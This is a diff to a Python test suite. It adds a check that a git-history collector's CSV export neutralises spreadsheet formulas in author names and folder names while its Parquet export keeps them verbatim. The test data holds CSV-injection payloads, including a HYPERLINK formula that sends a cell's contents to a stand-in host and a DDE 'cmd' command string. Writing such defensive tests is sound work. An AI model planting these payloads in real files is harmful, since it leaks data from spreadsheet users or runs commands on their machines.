@@ -6,6 +6,7 @@ writes from the collector's tables (the format every earlier export had).
 
 from __future__ import annotations
 
+import csv
 import json
 import subprocess
 import sys
@@ -74,3 +75,35 @@ def test_a_csv_export_loads_no_heavy_library(messy: Path, tmp_path: Path, level:
     loaded = {m.split(".")[0] for m in json.loads(out.stdout.splitlines()[-1])}
     assert not loaded & {"pandas", "numpy", "pyarrow", "sqlalchemy", "networkx", "git", "rich", "dowhy", "scipy"}
     assert (tmp_path / "x.csv").read_text().count("\n") > 10
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)"]
+
+
+def test_a_formula_in_a_text_cell_is_neutralised_in_csv_but_kept_in_parquet(tmp_path: Path, rca) -> None:
+    """OWASP's advice for CSV injection: a cell a spreadsheet would run gets a leading quote."""
+    from tests.git_repos import Repo
+
+    r = Repo(tmp_path / "=cmd|' -C calc'!A0")  # the label (a scope) comes from the folder's name
+    for i, name in enumerate(FORMULAS):
+        r.commit(f"feat: {i}", {"a.py": f"a = {i}\n"}, author=(name, f"{'=' if i == 0 else ''}p{i}@example.com"),
+                 when=f"2024-01-0{i + 1}T12:00:00+00:00")
+    r.commit("feat: cr", {"a.py": "cr\n"}, author=("Mal\rlory =1+1", "m@example.com"), when="2024-01-06T12:00:00+00:00")
+    csv_out, pq_out = tmp_path / "c.csv", tmp_path / "c.parquet"
+    for out in (csv_out, pq_out):
+        assert rca("collect", "--git", str(r.path), "--out", str(out), "--level", "commit").code == 0
+    with csv_out.open(newline="", encoding="utf-8") as fh:  # as a spreadsheet reads it: \r ends a row unless quoted
+        got = pd.DataFrame(list(csv.DictReader(fh)))
+    assert list(got.author_name) == [*(f"'{n}" for n in FORMULAS), "Mal\rlory =1+1"]
+    assert got.author[0] == "'=p0@example.com" and got.author[1] == "p1@example.com"
+    assert set(got.repo) == {"'=cmd|' -C calc'!A0"} and got.lines_added.tolist() == ["1"] * 5
+    raw = pd.read_parquet(pq_out)
+    assert list(raw.author_name) == [*FORMULAS, "Mal\rlory =1+1"] and set(raw.repo) == {"=cmd|' -C calc'!A0"}
+    for label in ("\tTab", "\rCR"):  # git strips a leading tab from a name; a label (the folder's name) keeps it
+        other = Repo(tmp_path / label)
+        other.commit("feat: x", {"a.py": "a\n"})
+        week = tmp_path / "w.csv"
+        assert rca("collect", "--git", str(other.path), "--out", str(week)).code == 0
+        with week.open(newline="", encoding="utf-8") as fh:
+            rows = list(csv.DictReader(fh))
+        assert {row["scope"] for row in rows} == {f"'{label}"} and len(rows) > 5
